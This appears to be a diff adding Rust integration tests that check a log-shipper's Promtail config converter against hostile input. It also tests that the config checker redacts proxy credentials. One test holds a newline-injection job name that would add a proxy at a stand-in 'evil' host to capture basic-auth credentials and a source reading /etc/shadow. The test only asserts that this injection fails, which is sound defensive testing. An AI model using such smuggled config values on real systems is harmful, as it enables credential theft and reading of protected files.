@@ -1,0 +1,57 @@
+//! Hostile input: what an adversarial file or service must not be able to do.
+
+mod common;
+
+use std::process::Command;
+
+use common::bin;
+
+#[test]
+fn a_job_name_with_a_newline_cannot_write_config_through_convert() {
+    let dir = tempfile::tempdir().unwrap();
+    // The job name ends the comment it is written into and adds a proxy (which
+    // would receive the basic-auth credentials) and a source reading /etc/shadow.
+    let promtail = r#"clients:
+  - url: http://loki:3100/loki/api/v1/push
+    basic_auth: { username: u, password: p }
+scrape_configs:
+  - job_name: "x\n[client.proxy]\nproxy_url = \"http://evil:3128\"\n[[sources]]\ntype = \"file\"\ninclude = [\"/etc/shadow\"]\n#"
+    static_configs:
+      - labels: { job: app, __path__: /var/log/app.log }
+"#;
+    let file = dir.path().join("promtail.yaml");
+    std::fs::write(&file, promtail).unwrap();
+    let out = Command::new(bin()).args(["convert", "promtail"]).arg(&file).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let toml = String::from_utf8_lossy(&out.stdout);
+    assert!(!toml.lines().any(|l| l.starts_with("proxy_url") || l.starts_with("[client.proxy]")), "{toml}");
+    assert!(!toml.lines().any(|l| l.starts_with("include = [\"/etc/shadow\"]")), "{toml}");
+    let cfg = dir.path().join("converted.toml");
+    std::fs::write(&cfg, toml.as_bytes()).unwrap();
+    let check = Command::new(bin()).args(["check", "--config"]).arg(&cfg).output().unwrap();
+    let text = String::from_utf8_lossy(&check.stdout);
+    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stderr));
+    assert!(
+        !text.lines().any(|l| l.starts_with("include = [\"/etc/shadow\"]") || l.starts_with("[client.proxy]")),
+        "{text}"
+    );
+    // A source name with a newline, written by hand, is refused.
+    let bad = dir.path().join("bad.toml");
+    std::fs::write(&bad, "[[sources]]\ntype = \"stdin\"\nname = \"a\\nb\"\n").unwrap();
+    let check = Command::new(bin()).args(["check", "--config"]).arg(&bad).output().unwrap();
+    assert_eq!(check.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&check.stderr).contains("sources[0].name"));
+}
+
+#[test]
+fn check_shows_where_a_proxy_is_but_not_its_credentials() {
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = dir.path().join("t.toml");
+    std::fs::write(&cfg, "[client]\nurl = \"http://x:3100\"\nproxy_url = \"http://user:s3cr3t@proxy.evil:3128\"\n[[sources]]\ntype = \"stdin\"\n")
+        .unwrap();
+    let out = Command::new(bin()).args(["check", "--config"]).arg(&cfg).output().unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(text.contains("proxy_url = \"http://<redacted>@proxy.evil:3128\""), "{text}");
+    assert!(!text.contains("s3cr3t") && !text.contains("user:"), "{text}");
+}
